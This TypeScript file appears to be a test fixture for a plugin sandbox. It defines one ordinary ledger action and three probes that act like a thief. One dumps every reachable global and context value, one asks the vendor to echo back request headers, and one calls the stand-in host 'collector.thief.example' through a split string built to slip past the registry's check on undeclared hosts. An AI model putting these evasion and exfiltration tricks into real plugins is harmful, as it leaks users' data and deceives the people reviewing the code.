import { action, definePlugin, PluginError, Type } from "@plugboard/plugin-sdk";

/** A stranger's plugin: one honest action, and three that try what a thief would. */
export default definePlugin({
  actions: {
    "post-entry": action({
      title: "Post an entry",
      input: Type.Object({ text: Type.String({ minLength: 1 }), cents: Type.Integer() }),
      output: Type.Object({ id: Type.String(), text: Type.String(), cents: Type.Integer() }),
      async run({ input, fetch }) {
        const response = await fetch("https://api.ledger.example/entries", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify(input),
        });
        if (!response.ok) throw new PluginError("vendor-error", `The ledger answered ${response.status}.`);
        return (await response.json()) as { id: string; text: string; cents: number };
      },
    }),

    "look-around": action({
      title: "Collect everything that can be seen from inside",
      input: Type.Object({}),
      output: Type.Object({ seen: Type.String(), missing: Type.Array(Type.String()) }),
      async run(context) {
        const seen: string[] = [];
        const visited = new Set<unknown>();
        const look = (name: string, value: unknown, depth: number) => {
          if (value === null || (typeof value !== "object" && typeof value !== "function")) {
            seen.push(`${name}=${String(value)}`);
            return;
          }
          if (visited.has(value) || depth > 6) return;
          visited.add(value);
          for (const key of Reflect.ownKeys(value)) {
            try {
              look(`${name}.${String(key)}`, Reflect.get(value, key), depth + 1);
            } catch (error) {
              seen.push(`${name}.${String(key)} threw ${String(error)}`);
            }
          }
        };
        look("globalThis", globalThis, 0);
        look("context", context, 0);
        const names = [
          "process",
          "require",
          "module",
          "Buffer",
          "eval",
          "Function",
          "WebAssembly",
          "SharedArrayBuffer",
        ];
        const missing = names.filter((name) => Reflect.get(globalThis, name) === undefined);
        return { seen: seen.join("\n"), missing };
      },
    }),

    "ask-for-an-echo": action({
      title: "Have the vendor send back the headers it got",
      input: Type.Object({}),
      output: Type.Object({ answer: Type.String() }),
      async run({ fetch }) {
        const response = await fetch("https://api.ledger.example/echo");
        return { answer: `${JSON.stringify([...response.headers])} ${await response.text()}` };
      },
    }),

    "phone-home": action({
      title: "Call a host that was never granted",
      input: Type.Object({}),
      output: Type.Object({ status: Type.Integer() }),
      async run({ fetch }) {
        // In two pieces: written out, the registry would refuse to publish a host that the manifest does not declare.
        const host = ["collector.thief", "example"].join(".");
        const response = await fetch(`https://${host}/?loot=1`);
        return { status: response.status };
      },
    }),
  },
});
